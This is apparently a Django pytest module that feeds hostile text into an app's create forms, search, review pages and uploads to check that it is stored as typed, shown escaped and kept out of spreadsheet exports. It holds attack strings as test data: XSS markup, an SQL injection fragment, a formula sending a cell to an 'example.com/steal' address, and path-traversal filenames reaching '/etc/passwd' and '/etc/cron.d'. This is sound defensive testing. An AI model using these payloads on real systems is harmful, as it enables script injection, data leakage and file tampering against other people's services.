"""Hostile input on every create form is stored as plain text and shown inert.

Each create page (every pattern named `*_create` in the URL walk's table) gets a valid record
whose free-text fields carry a hostile string: markup and script, an SQL fragment, a
spreadsheet formula, a template tag and a path. The record must save with the text exactly as
typed; the pages after it must show it escaped, never as markup; the table's CSV and XLSX
downloads must not hand a spreadsheet a formula. Uploads with a path in their name and bodies
over the limits are refused or made harmless.
"""

import csv
import datetime
import io
from collections.abc import Callable
from dataclasses import dataclass, field
from decimal import Decimal

import openpyxl
import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape

from engagement.models import ActionPoint, KeyMessage, Meeting, Milestone
from funding.models import (
    Allocation,
    AllocationRound,
    Commitment,
    Disbursement,
    ParliamentaryApproval,
)
from priorities.models import Evidence, Indicator, IndicatorProgress, Strategy
from risks.models import Risk
from strategy_monitor.concurrency import version_token
from strategy_monitor.exports import FORMULA_PREFIXES
from tests.priorities.builders import media_root  # noqa: F401
from tests.priorities.factories import PDF_BYTES
from tests.risks.factories import RiskFactory
from tests.security.test_url_access import PAGES
from tests.security.world import World

pytestmark = pytest.mark.django_db

HOSTILE = {
    "markup": '<script>alert("x")</script><img src=x onerror=alert(1)>" onmouseover="alert(2)',
    "sql": "Robert'); DROP TABLE priorities_strategy; -- ' OR '1'='1",
    "formula": '=HYPERLINK("http://example.com/steal?x="&A1,"Open the report")',
    "template": "{{ request.user.password }} {% debug %} ../../../etc/passwd",
}
# Markup that must never reach a page unescaped. (Template tags in the text stay literal text:
# Django never renders what users typed as a template; the tests below find it shown as typed.)
NEVER_RAW = ["<script>alert", "<img src=x", '" onmouseover="']


@dataclass(frozen=True)
class CreateForm:
    """How to fill a create form validly, and where its record and table are found."""

    model: type
    values: Callable[[World], dict] = field(default=lambda world: {})
    table: str | None = None  # the list page that shows the record
    downloads: bool = True  # whether that list page offers CSV and XLSX downloads
    stored: dict[str, str] = field(default_factory=dict)  # form field → model field, if named apart


def _approval_values(world: World) -> dict:
    lines = world.strategy.budget_lines.all()
    return {
        "year": "2025",
        "approved_on": "2024-12-15",
        **{f"amount_{line.pk}": "1" for line in lines},
    }


def _commitment_values(world: World) -> dict:
    line_b = world.strategy.budget_lines.get(code="b")
    ParliamentaryApproval.objects.create(
        line=line_b, year=2025, amount=Decimal("50000000"), approved_on=datetime.date(2024, 12, 15)
    )
    return {"line": line_b.pk, "year": "2025", "amount": "1000000", "committed_on": "2025-02-01"}


CREATE_FORMS: dict[str, CreateForm] = {
    "priorities:strategy_create": CreateForm(
        Strategy,
        lambda world: {
            "organisation": world.strategy.organisation_id,
            "slug": "hostile-input",
            "start_year": "2025",
            "end_year": "2028",
            "mid_term_review_half": "",
            "new_organisation_name": "",
            "new_organisation_acronym": "",
            "new_organisation_iati_identifier": "",
        },
        table="priorities:strategy_list",
        downloads=False,
    ),
    "priorities:indicator_create": CreateForm(
        Indicator,
        lambda world: {"node": world.node.pk, "code": "", "baseline": "", "baseline_year": ""},
    ),
    "risks:risk_create": CreateForm(
        Risk,
        lambda world: {"category": "", "owner": "", "next_review": ""},
        table="risks:risk_list",
    ),
    "engagement:meeting_create": CreateForm(
        Meeting,
        lambda world: {
            "held_on": "2024-05-14",
            "action_points-TOTAL_FORMS": "0",
            "action_points-INITIAL_FORMS": "0",
        },
        table="engagement:meeting_list",
    ),
    "engagement:actionpoint_create": CreateForm(
        ActionPoint,
        lambda world: {"due_on": "2024-09-01", "priority_area": ""},
        table="engagement:actionpoint_list",
    ),
    "engagement:milestone_create": CreateForm(
        Milestone,
        lambda world: {"due_on": "2024-09-01", "owner": ""},
        table="engagement:milestone_list",
    ),
    "funding:parliamentaryapproval_create": CreateForm(
        ParliamentaryApproval, _approval_values, table="funding:parliamentaryapproval_list"
    ),
    "funding:commitment_create": CreateForm(
        Commitment, _commitment_values, table="funding:commitment_list"
    ),
    "funding:disbursement_create": CreateForm(
        Disbursement,
        lambda world: {
            "line": world.line.pk,
            "year": "2024",
            "amount": "1000",
            "paid_on": "2024-06-01",
        },
        table="funding:disbursement_list",
    ),
    "funding:allocationround_create": CreateForm(
        AllocationRound,
        lambda world: {"line": world.round.line_id, "year": "2025"},
        table="funding:allocationround_list",
    ),
    "funding:allocation_create": CreateForm(
        Allocation, lambda world: {"amount": "1000", "office": ""}
    ),
}
CREATE_KEYS = sorted(key for key in PAGES if key.endswith("_create"))


def test_every_create_form_is_given_hostile_input():
    missing = sorted(set(CREATE_KEYS) - set(CREATE_FORMS))
    assert not missing, f"Add {missing} to CREATE_FORMS in {__name__}."


def is_free_text(form_field: forms.Field) -> bool:
    """Return whether a form field takes free text typed by the user."""
    return (
        type(form_field) is forms.CharField
        and isinstance(form_field.widget, (forms.TextInput, forms.Textarea))
        and not isinstance(form_field.widget, forms.HiddenInput)
    )


def fill(form, values: dict, text: str) -> tuple[dict, dict]:
    """Return POST data for `form`: `values`, text in every free-text field, defaults elsewhere.

    Also return the free-text fields filled, with the text each got.
    """
    data, texts = {}, {}
    for name, form_field in form.fields.items():
        key = form.add_prefix(name)
        if key in values:
            continue
        if is_free_text(form_field):
            texts[name] = text[: form_field.max_length] if form_field.max_length else text
            data[key] = texts[name]
        elif isinstance(form_field, forms.MultipleChoiceField | forms.ModelMultipleChoiceField):
            continue
        elif isinstance(form_field, forms.ChoiceField | forms.ModelChoiceField):
            choices = [value for value, _ in form_field.choices if value not in ("", None)]
            data[key] = str(getattr(choices[0], "value", choices[0]))
        elif isinstance(form_field, forms.DateField):
            data[key] = "2024-06-01"
    data.update(values)
    return data, texts


def assert_inert(page: str, text: str) -> None:
    for raw in NEVER_RAW:
        if raw in text:
            assert raw not in page, f"{raw!r} reached the page unescaped"
    assert "pbkdf2" not in page and "md5$" not in page


def table_cells(client, table_url: str) -> list[str]:
    """Return every cell of the table's CSV and XLSX downloads."""
    cells = []
    response = client.get(table_url + "?_export=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    cells += [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    response = client.get(table_url + "?_export=xlsx")
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    for row in workbook.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"formula in {cell.coordinate}: {cell.value}"
            if isinstance(cell.value, str):
                cells.append(cell.value)
    return cells


@pytest.mark.parametrize("kind", HOSTILE)
@pytest.mark.parametrize("key", CREATE_KEYS)
def test_hostile_text_is_stored_as_typed_and_shown_inert(key, kind, world, clients):
    spec = CREATE_FORMS[key]
    page = PAGES[key]
    client = clients[sorted(page.writers)[0]]
    url = reverse(key, kwargs=page.kwargs(world))
    form = client.get(url).context["form"]
    data, texts = fill(form, spec.values(world), HOSTILE[kind])
    assert texts, f"{key} has no free-text field"
    before = set(spec.model.objects.values_list("pk", flat=True))

    response = client.post(url, data, follow=True)

    assert response.status_code == 200
    created = list(spec.model.objects.exclude(pk__in=before))
    errors = response.context.get("form").errors if response.context.get("form") else None
    assert created, f"{key} refused the record: {errors}"
    for record in created:  # a year's approval saves one record per budget line
        for name, text in texts.items():
            stored = getattr(record, spec.stored.get(name, name))
            assert stored == text.strip(), f"{key}: {name} stored as {stored!r}"
    assert_inert(response.content.decode(), HOSTILE[kind])
    shown = [response.content.decode()]
    if spec.table:
        scoped = spec.table != "priorities:strategy_list"
        table_url = reverse(spec.table, kwargs={"slug": world.strategy.slug} if scoped else {})
        listing = client.get(table_url).content.decode()
        assert_inert(listing, HOSTILE[kind])
        shown.append(listing)
        cells = table_cells(client, table_url) if spec.downloads else []
        for cell in cells:
            assert not cell.startswith(FORMULA_PREFIXES), f"{key} download: {cell!r}"
        if kind == "formula":
            # Where the download shows the formula, it is text a spreadsheet never runs.
            shown_formulas = [cell for cell in cells if "HYPERLINK" in cell]
            assert all(cell.startswith("'=HYPERLINK") for cell in shown_formulas), shown_formulas
    longest = max(texts.values(), key=len)
    assert any(escape(longest) in html for html in shown), f"{key}: the text is not shown"


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_key_messages_are_stored_as_typed_and_shown_inert(kind, world, clients):
    """The key message list is not a create form, but takes free text the same way."""
    client = clients["mission"]
    meeting = world.meeting
    url = reverse("engagement:keymessage_list", args=[world.strategy.slug, meeting.pk])
    text = HOSTILE[kind]
    before = set(KeyMessage.objects.values_list("pk", flat=True))

    kept = world.key_message
    data = {
        "blank_rows": "1",
        "new-0-text": text,
        f"message-{kept.pk}-text": kept.text,
        f"message-{kept.pk}-priority_area": str(kept.priority_area_id),
        f"message-{kept.pk}-order": str(kept.order),
        f"message-{kept.pk}-version": kept.updated_at.isoformat(),
    }

    response = client.post(url, data, follow=True)

    assert response.status_code == 200
    created = KeyMessage.objects.exclude(pk__in=before).get()
    assert created.text == text.strip()
    for page in (response.content.decode(), client.get(url).content.decode()):
        assert_inert(page, text)
        assert escape(text.strip()) in page


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_review_findings_are_stored_as_typed_and_shown_inert(kind, world, clients):
    """The mid-term review's page records or edits the one review, so it is no create form."""
    client = clients["desk"]
    url = reverse("engagement:milestone_review", args=[world.strategy.slug])
    text = HOSTILE[kind]
    hostile_name = "../../<img src=x onerror=alert(1)>.pdf"
    data = {
        "completed_on": "2024-11-29",
        "findings": text,
        "version": client.get(url).context["form"]["version"].value(),
        "report_file": SimpleUploadedFile(hostile_name, PDF_BYTES, "application/pdf"),
    }

    response = client.post(url, data, follow=True)

    assert response.status_code == 200
    world.review.refresh_from_db()
    assert world.review.findings == text.strip()
    assert ".." not in world.review.report_file.name
    for page in (response.content.decode(), client.get(url).content.decode()):
        assert_inert(page, text)
        assert_inert(page, hostile_name)
    assert escape(text.strip()) in response.content.decode()


def test_a_minutes_file_named_with_a_path_is_stored_under_a_random_name(
    client_desk, world, settings
):
    meeting = world.meeting
    hostile_name = "../../../../etc/cron.d/<img src=x onerror=alert(1)>.pdf"
    response = client_desk.post(
        reverse("engagement:meeting_update", args=[world.strategy.slug, meeting.pk]),
        {
            "kind": meeting.kind,
            "held_on": meeting.held_on.isoformat(),
            "title": meeting.title,
            "version": meeting.updated_at.isoformat(),
            "minutes_file": SimpleUploadedFile(hostile_name, PDF_BYTES, "application/pdf"),
        },
        follow=True,
    )
    assert response.status_code == 200
    meeting.refresh_from_db()
    assert meeting.minutes_file_name == "<img src=x onerror=alert(1)>.pdf"
    assert ".." not in meeting.minutes_file.name
    stored = (settings.MEDIA_ROOT / meeting.minutes_file.name).resolve()
    assert stored.is_relative_to(settings.MEDIA_ROOT.resolve())
    assert "<img src=x" not in response.content.decode()
    download = client_desk.get(
        reverse("engagement:meeting_minutes", args=[world.strategy.slug, meeting.pk])
    )
    assert download["Content-Disposition"].startswith("attachment")
    assert "/" not in download["Content-Disposition"].split("filename", 1)[1]


def test_an_upload_named_with_a_path_is_stored_under_a_random_name(client_desk, world, settings):
    progress = IndicatorProgress.objects.get(indicator=world.indicator)
    hostile_name = "../../../../etc/cron.d/<img src=x onerror=alert(1)>.pdf"
    response = client_desk.post(
        reverse("priorities:progress_edit", args=[world.strategy.slug, world.indicator.pk, 2024]),
        {
            "target": "20",
            "actual": "19",
            "version": progress.updated_at.isoformat(),
            "files": [SimpleUploadedFile(hostile_name, PDF_BYTES, "application/pdf")],
        },
        follow=True,
    )
    assert response.status_code == 200
    evidence = Evidence.objects.exclude(pk=world.evidence.pk).get()
    assert evidence.original_name == "<img src=x onerror=alert(1)>.pdf"
    assert ".." not in evidence.file.name
    stored = (settings.MEDIA_ROOT / evidence.file.name).resolve()
    assert stored.is_relative_to(settings.MEDIA_ROOT.resolve())
    assert "<img src=x" not in response.content.decode()
    download = client_desk.get(
        reverse("priorities:evidence_download", args=[world.strategy.slug, evidence.pk])
    )
    assert download["Content-Disposition"].startswith("attachment")
    assert "/" not in download["Content-Disposition"].split("filename", 1)[1]


def test_a_body_over_the_request_limit_is_refused_before_it_is_read(client_desk, world, settings):
    settings.MAX_REQUEST_BYTES = 64 * 1024
    progress = IndicatorProgress.objects.get(indicator=world.indicator)
    response = client_desk.post(
        reverse("priorities:progress_edit", args=[world.strategy.slug, world.indicator.pk, 2024]),
        {
            "target": "20",
            "actual": "19",
            "version": progress.updated_at.isoformat(),
            "files": [SimpleUploadedFile("big.pdf", PDF_BYTES + b"0" * 100_000)],
        },
    )
    assert response.status_code == 413
    assert not Evidence.objects.exclude(pk=world.evidence.pk).exists()


def test_the_request_limits_are_set(settings):
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE == 2_621_440
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE == 2_621_440
    assert settings.MAX_REQUEST_BYTES > settings.EVIDENCE_MAX_BYTES


def test_text_over_a_field_limit_is_refused_on_the_form(client_desk, world):
    response = client_desk.post(
        reverse("risks:risk_create", args=[world.strategy.slug]), {"title": "x" * 10_000}
    )
    assert response.status_code == 200
    assert "at most 200 characters" in response.content.decode()
    assert not Risk.objects.filter(title__startswith="xxx").exists()


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_withdrawal_reason_is_stored_as_typed_and_shown_inert(kind, world, clients):
    brief = world.issued_brief
    url = reverse("reports:issuedbrief_withdraw", args=[world.strategy.slug, brief.pk])
    response = clients["admin"].post(url, {"withdrawal_reason": HOSTILE[kind]}, follow=True)
    assert response.status_code == 200
    brief.refresh_from_db()
    assert brief.withdrawal_reason == HOSTILE[kind].strip()
    for page in (
        response.content.decode(),
        clients["desk"]
        .get(reverse("engagement:meeting_detail", args=[world.strategy.slug, world.meeting.pk]))
        .content.decode(),
    ):
        assert_inert(page, HOSTILE[kind])
        assert escape(HOSTILE[kind]) in page


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_narrative_in_the_figures_grid_is_stored_as_typed_and_shown_inert(
    kind, world, clients
):
    """The grid of a year is not a create form, but takes a narrative per indicator."""
    client = clients["desk"]
    url = reverse(
        "priorities:progress_bulk_edit",
        kwargs=PAGES["priorities:progress_bulk_edit"].kwargs(world),
    )
    forms = client.get(url).context["forms"]
    # Every row as the page shows it, as a browser sends the whole grid back.
    data = {}
    for form in forms:
        for name in ("target", "actual", "comment", "version"):
            value = form[name].value()
            data[form.add_prefix(name)] = "" if value is None else str(value)
    row = next(form for form in forms if form.indicator == world.indicator)
    text = HOSTILE[kind]
    data[row.add_prefix("comment")] = text

    response = client.post(url, data, follow=True)

    assert response.status_code == 200
    progress = IndicatorProgress.objects.get(indicator=world.indicator, strategy_year__year=2024)
    assert progress.comment == text.strip()
    progress_page = reverse(
        "priorities:progress_edit", args=[world.strategy.slug, world.indicator.pk, 2024]
    )
    for page in (client.get(url).content.decode(), client.get(progress_page).content.decode()):
        assert_inert(page, text)
        assert escape(text.strip()) in page


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_search_words_and_found_text_are_shown_inert(kind, world, clients):
    """The search page repeats the words typed and shows excerpts of what users wrote."""
    text = HOSTILE[kind]
    RiskFactory(strategy=world.strategy, description=f"Zanzibar: {text}")
    url = reverse("reports:search")
    for query in (text, "Zanzibar"):
        response = clients["desk"].get(url, {"q": query})
        assert response.status_code == 200
        page = response.content.decode()
        assert_inert(page, text)
        assert escape(query) in page
    assert escape(text) in page  # the excerpt of the risk found, as typed


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_review_reasons_are_stored_as_typed_and_shown_inert(kind, world, clients):
    """A year's review takes free text: a submission's note and gaps reason, a return's reason."""
    text = HOSTILE[kind]
    url = reverse("priorities:strategyyear_review", args=[world.strategy.slug, 2024])
    year = world.strategy.strategy_years.get(year=2024)
    submitted = clients["desk"].post(
        url,
        {
            "decision": "submit",
            "submit-version": version_token(year),
            "submit-comment": text,
            "submit-gaps_reason": text,
        },
        follow=True,
    )
    assert submitted.status_code == 200
    year.refresh_from_db()
    assert (year.state, year.state_comment, year.gaps_reason) == (
        "submitted",
        text.strip(),
        text.strip(),
    )
    review = clients["manager"].get(url).content.decode()
    assert_inert(review, text)
    assert escape(text.strip()) in review

    returned = clients["manager"].post(
        url,
        {"decision": "return", "return-version": version_token(year), "return-comment": text},
        follow=True,
    )
    year.refresh_from_db()
    assert (year.state, year.state_comment) == ("draft", text.strip())
    for page in (returned.content.decode(), clients["desk"].get(url).content.decode()):
        assert_inert(page, text)
        assert escape(text.strip()) in page
